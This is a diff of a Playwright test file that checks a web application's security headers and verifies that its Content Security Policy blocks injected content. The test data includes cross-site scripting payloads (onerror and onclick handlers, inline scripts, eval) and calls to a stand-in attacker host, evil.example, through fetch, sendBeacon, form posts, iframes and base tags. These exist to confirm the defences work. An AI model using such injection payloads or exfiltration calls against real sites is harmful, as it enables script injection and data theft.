@@ -16,25 +16,17 @@ const KINDS = [
   '/modelos/999999/x',
 ];
 
-/** Only the application may use the camera. */
-function headersOf(path: string): Readonly<Record<string, string>> {
-  const own = SECURITY_HEADERS['Permissions-Policy'];
-  const asks = ['/seja-amz', '/en/be-amz', '/seja-amazing-face', '/en/be-amazing-face'].includes(
-    path,
-  );
-  return asks
-    ? { ...SECURITY_HEADERS, 'Permissions-Policy': own.replace('camera=()', 'camera=(self)') }
-    : SECURITY_HEADERS;
-}
+// The camera, which the application may use, has a test of its own.
+const { 'Permissions-Policy': _, ...HEADERS } = SECURITY_HEADERS;
 
-test.describe('what is answered', { tag: '@desktop' }, () => {
-  test('says on every page what the page may do, and keeps nothing in the browser', async ({
-    request,
-  }) => {
+test(
+  'Every page says what it may do, and keeps nothing in the browser',
+  { tag: '@desktop' },
+  async ({ request }) => {
     for (const path of KINDS) {
       const answer = await request.get(path);
       const headers = answer.headers();
-      for (const [name, value] of Object.entries(headersOf(path)))
+      for (const [name, value] of Object.entries(HEADERS))
         expect([path, name, headers[name.toLowerCase()]]).toEqual([path, name, value]);
       expect([path, headers['set-cookie']]).toEqual([path, undefined]);
       const [head = ''] = (await answer.text()).split('</head>');
@@ -51,27 +43,8 @@ test.describe('what is answered', { tag: '@desktop' }, () => {
       // No connections open ahead of a press.
       expect(head, path).not.toMatch(/rel="?(?:preconnect|dns-prefetch)/);
     }
-  });
-
-  test('by functions has the headers of the pages, and says what may be kept', async ({
-    request,
-  }) => {
-    for (const [method, path, status, kept] of [
-      ['GET', '/api/options?language=en', 200, 'public, max-age=300'],
-      ['GET', '/api/options?language=xx', 400, 'no-store'],
-      ['GET', '/api/composite/0', 404, 'no-store'],
-      ['POST', '/api/entry/contact', 400, 'no-store'],
-      ['POST', '/api/entry/other', 404, 'no-store'],
-      ['GET', '/modelos/999999', 404, 'public, max-age=0, must-revalidate'],
-    ] as const) {
-      const answer = await request.fetch(path, { method });
-      const headers = answer.headers();
-      expect([path, answer.status(), headers['cache-control']]).toEqual([path, status, kept]);
-      for (const [name, value] of Object.entries(SECURITY_HEADERS))
-        expect([path, name, headers[name.toLowerCase()]]).toEqual([path, name, value]);
-    }
-  });
-});
+  },
+);
 
 test(
   'No page loads anything from other hosts before a press',
@@ -127,51 +100,28 @@ test(
     });
     await page.goto('/en/models');
     const outcomes = await page.evaluate(async () => {
-      const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
+      const add = (tag: string, name = '', value = '', text = '') => {
         const element = document.createElement(tag);
-        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
-        if (text !== '') element.append(text);
+        if (name !== '') element.setAttribute(name, value);
+        element.append(text);
         document.body.append(element);
         return element;
       };
       const attempts: Readonly<Record<string, () => unknown>> = {
-        handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
-        script: () => add('script', {}, 'window.hacked = 1'),
-        foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
-        markup: () =>
-          (document.body.appendChild(document.createElement('p')).innerHTML =
-            '<img src=x onerror="window.hacked = 1">'),
+        handler: () => add('a', 'onclick', 'window.hacked = 1').click(),
+        script: () => add('script', '', '', 'window.hacked = 1'),
+        foreignScript: () => add('script', 'src', 'https://evil.example/a.js'),
+        markup: () => (add('p').innerHTML = '<img src=x onerror="window.hacked = 1">'),
         // Later, because code that a test calls directly may evaluate anything.
         code: () =>
-          new Promise<void>((resolve, reject) => {
-            setTimeout(() => {
-              try {
-                (0, eval)('window.hacked = 1');
-                resolve();
-              } catch (error) {
-                reject(error instanceof Error ? error : new Error());
-              }
-            });
-          }),
-        style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
-        sheet: () =>
-          getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id)
-            .outlineWidth,
-        frame: () => add('iframe', { src: 'https://evil.example/' }),
-        plugin: () => add('object', { data: 'https://evil.example/' }),
-        base: () => {
-          add('base', { href: 'https://evil.example/' });
-          return document.baseURI;
-        },
+          new Promise((resolve) => setTimeout(resolve)).then(() => (0, eval)('window.hacked = 1')),
+        style: () => getComputedStyle(add('p', 'style', 'position: fixed')).position,
+        frame: () => add('iframe', 'src', 'https://evil.example/'),
+        plugin: () => add('object', 'data', 'https://evil.example/'),
+        base: () => add('base', 'href', 'https://evil.example/').baseURI,
         send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
         beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
-        form: () => {
-          const form = add('form', {
-            action: 'https://evil.example/',
-            method: 'post',
-          }) as HTMLFormElement;
-          form.submit();
-        },
+        form: () => (add('form', 'action', 'https://evil.example/') as HTMLFormElement).submit(),
       };
       const results: Record<string, string> = {};
       for (const [name, attempt] of Object.entries(attempts)) {
@@ -184,16 +134,12 @@ test(
       }
       return results;
     });
-    expect(outcomes).toMatchObject({
+    const refused = {
       markup: 'TypeError',
       code: expect.stringMatching(/Error$/),
       send: 'TypeError',
-    });
-    expect(outcomes).toMatchObject({
-      style: 'static',
-      sheet: expect.not.stringContaining('9px'),
-      base: expect.not.stringContaining('evil'),
-    });
+    };
+    expect(outcomes).toMatchObject({ ...refused, style: 'static', base: page.url() });
     // A request after the attacks gets its answer.
     await page.evaluate(() => fetch('/talents.json').then((answer) => answer.text()));
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
